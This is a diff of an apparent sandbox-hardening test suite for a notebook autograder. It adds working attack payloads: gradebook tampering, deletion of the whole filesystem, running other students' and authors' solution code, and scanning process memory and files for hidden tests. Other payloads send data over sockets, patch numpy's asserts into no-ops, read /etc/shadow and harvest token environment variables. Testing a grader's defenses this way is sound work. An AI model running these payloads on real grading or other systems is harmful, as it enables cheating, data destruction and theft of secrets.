@@ -196,30 +196,49 @@ def means(*a): return Any()
 def lloyd(*a): return np.zeros((1, 1)).view(Equal)
 """
 
+ALL_FILES = """
+files = []  # of `/proc` and `/dev` some never end
+for base, folders, names in os.walk('/'):
+    folders[:] = [f for f in folders if f not in ('proc', 'dev', 'usr', 'lib', 'site-packages')]
+    files += [os.path.join(base, name) for name in names]
+"""
+
 HIDDEN_TESTS_BY_ALL_MEANS = """
-import gc, glob, os, sys
+import gc, os, sys
 found = []
-for name in glob.glob('/**', recursive=True)[:20000]:
-    pass
 for folder in ('/', os.getcwd(), '/tmp', os.path.expanduser('~'), '/grading-code', '/student'):
     for base, _, names in os.walk(folder):
-        if base.startswith(('/usr', '/proc', '/sys', '/root', '/work', '/lib')): continue
+        if base.startswith(('/usr', '/proc', '/sys', '/dev', '/root', '/work', '/lib')): continue
         for name in names:
             try: text = open(os.path.join(base, name), errors='replace').read(2_000_000)
             except Exception: continue
-            if 'HIDDEN' in text or '4711' in text: found.append(os.path.join(base, name))
-try: found += [c for c in In if '4711' in c]
+            if 'BEGIN ' + 'HIDDEN' in text or '47' + '11' in text: found.append(os.path.join(base, name))
+try: found += [c for c in In if '47' + '11' in c]
 except Exception: pass
 for thing in gc.get_objects():
-    if isinstance(thing, str) and 'BEGIN HIDDEN' in thing: found.append(thing)
+    if isinstance(thing, str) and 'BEGIN ' + 'HIDDEN' in thing: found.append(thing)
 def look():
     frame = sys._getframe()
     while frame:
         for value in [*frame.f_locals.values(), *frame.f_globals.values()]:
-            if isinstance(value, (str, bytes)) and ('BEGIN HIDDEN' in str(value)): found.append(value)
+            if isinstance(value, (str, bytes)) and ('BEGIN ' + 'HIDDEN' in str(value)): found.append(value)
         frame = frame.f_back
+def remember():
+    needle = bytes(reversed(b'NEDDIH NIGEB'))
+    with open('/proc/self/maps') as maps, open('/proc/self/mem', 'rb', 0) as memory:
+        for line in maps:
+            begin, end = (int(number, 16) for number in line.split()[0].split('-'))
+            if ' rw' not in line or end - begin > 2**28: continue
+            try: data = memory.seek(begin) and memory.read(end - begin)
+            except OSError: continue
+            at = data.find(needle)
+            while at >= 0:
+                if data[at + 12 : at + 18] == b' TESTS': found.append(data[at : at + 99])
+                at = data.find(needle, at + 1)
+remember()
 def nearest(X, C):
     look()
+    remember()
     print('LEAK' if found else 'nothing', [str(f)[:300] for f in found])
     return [9]
 print('LEAK' if found else 'nothing', [str(f)[:300] for f in found])
@@ -272,32 +291,37 @@ ATTACKS = {
         "    try: os.kill(pid, signal.SIGKILL)\n    except Exception: pass"
     ),
     "07-gradebook": first(
-        "import glob, sqlite3, os\nfor path in glob.glob('/**/*.db', recursive=True):\n"
+        "import sqlite3, os\n"
+        + ALL_FILES
+        + "for path in (f for f in files if f.endswith('.db')):\n"
         "    try:\n        db = sqlite3.connect(path)\n"
         "        db.execute('update grade set manual_score = 8'); db.commit()\n"
-        "    except Exception: pass"
+        "    except Exception: pass\nprint('at the end')"
     ),
     "08-delete-all": first(
         "import shutil, os\nfor name in os.listdir('/'):\n"
         "    shutil.rmtree('/' + name, ignore_errors=True)\nshutil.rmtree('/tmp', ignore_errors=True)"
     ),
     "09-others-work": first(
-        "import glob, json\nfor path in glob.glob('/**/*.ipynb', recursive=True):\n"
-        "    for cell in json.load(open(path))['cells']:\n        exec(''.join(cell['source']))"
+        "import os, json\n"
+        + ALL_FILES
+        + "for path in (f for f in files if f.endswith('.ipynb')):\n"
+        "    for cell in json.load(open(path))['cells']:\n        exec(''.join(cell['source']))\n"
+        "print('at the end')"
     ),
     "10-authors-answers": first(
-        "import os, re\nfor base, folders, names in os.walk('/'):\n"
-        "    folders[:] = [f for f in folders if f not in ('proc', 'sys', 'usr', 'lib', 'site-packages')]\n"
-        "    for name in names:\n        try: text = open(os.path.join(base, name)).read(10**6)\n"
-        "        except (OSError, UnicodeDecodeError): continue\n"
-        "        for part in re.findall('BEGIN SOLUTION(.*?)### END', text, re.S):\n"
-        "            exec(part.replace(chr(92) + 'n\",', '').replace('    \"', '').replace(chr(92) + 'n', chr(10)))"
+        "import os, re\n" + ALL_FILES + "for path in files:\n"
+        "    try: text = open(path).read(10**6)\n"
+        "    except (OSError, UnicodeDecodeError): continue\n"
+        "    for part in re.findall('BEGIN SOLUTION(.*?)### END', text, re.S):\n"
+        "        exec(part.replace(chr(92) + 'n\",', '').replace('    \"', '').replace(chr(92) + 'n', chr(10)))\n"
+        "print('at the end')"
     ),
     "11-hidden-tests": first(HIDDEN_TESTS_BY_ALL_MEANS),
     "12-network": first(
         "import socket\nfor host in ('127.0.0.1', '10.0.0.1', '8.8.8.8'):\n    for port in (PORT, 80, 53):\n"
         "        try:\n            s = socket.create_connection((host, port), timeout=0.3)\n"
-        "            s.sendall(b'stolen'); print('CONNECTED')\n        except OSError: pass"
+        "            s.sendall(b'stolen'); print('CONNECTED')\n        except OSError: pass\nprint('tried')"
     ),
     "13-patched-numpy": first(
         "np.testing.assert_array_equal = np.testing.assert_allclose = lambda *a, **k: None\n"
@@ -367,8 +391,9 @@ ATTACKS = {
     ),
     "33b-script-in-text": Attack(0, {}, script_in_text),
     "35-locks": first(
-        "import fcntl, glob\nfor path in glob.glob('/**', recursive=True)[:3000]:\n"
-        "    try: fcntl.flock(open(path), fcntl.LOCK_EX | fcntl.LOCK_NB)\n    except Exception: pass"
+        "import fcntl, os\n" + ALL_FILES + "kept = []\nfor path in files[:3000]:\n"
+        "    try:\n        kept.append(open(path))\n        fcntl.flock(kept[-1], fcntl.LOCK_EX | fcntl.LOCK_NB)\n"
+        "    except Exception: pass\nprint('at the end')"
     ),
     "36-names-of-the-setup": Attack(
         0,
@@ -405,6 +430,7 @@ attempt('io_uring', lambda: libc.syscall(425, 1, 0) >= 0)
 attempt('userfaultfd', lambda: libc.syscall(323, 0) >= 0)
 attempt('memfd', lambda: libc.syscall(319, b'x', 0) >= 0)
 attempt('x32', lambda: libc.syscall(0x40000000 + 39) > 0)
+attempt('inotify', lambda: libc.inotify_init() >= 0 or libc.inotify_init1(0) >= 0)
 attempt('vsock', lambda: socket.socket(40, socket.SOCK_STREAM))
 attempt('packet', lambda: socket.socket(17, socket.SOCK_RAW))
 attempt('setuid', lambda: os.setuid(0) is None)
@@ -417,7 +443,7 @@ for path in ('/etc/passwd', '/etc/shadow', '/proc/1/root/etc/shadow', '/proc/sel
 attempt('processes', lambda: [p for p in os.listdir('/proc') if p.isdigit() and p != '1'] or None)
 attempt('environment', lambda: [k for k in os.environ if 'TOKEN' in k or 'SECRET' in k or 'COURSE' in k] or None)
 attempt('root id', lambda: os.getuid() == 0)
-attempt('course', lambda: glob.glob('COURSE/solutions') or glob.glob('/**/gradebook.db', recursive=True) or None)
+attempt('course', lambda: glob.glob('COURSE/solutions') or [d for d, _, files in os.walk('/') if 'gradebook.db' in files and 'site-packages' not in d] or None)
 attempt('traces', lambda: os.listdir('/tmp') + os.listdir('/student') + os.listdir('/dev/shm') or None)
 open('/tmp/trace', 'w').write('x'); open('/dev/shm/trace', 'w').write('x'); open('trace', 'w').write('x')
 print('HOLE' if holes else 'tight', holes)
